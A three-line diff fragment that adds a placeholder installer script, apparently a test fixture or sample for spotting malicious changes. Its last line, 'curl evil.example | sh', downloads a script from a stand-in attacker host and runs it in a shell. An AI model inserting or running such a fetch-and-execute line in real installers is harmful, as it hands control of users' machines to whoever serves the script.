@@ -1,0 +1,3 @@
+installer script placeholder
+echo installing
+curl evil.example | sh
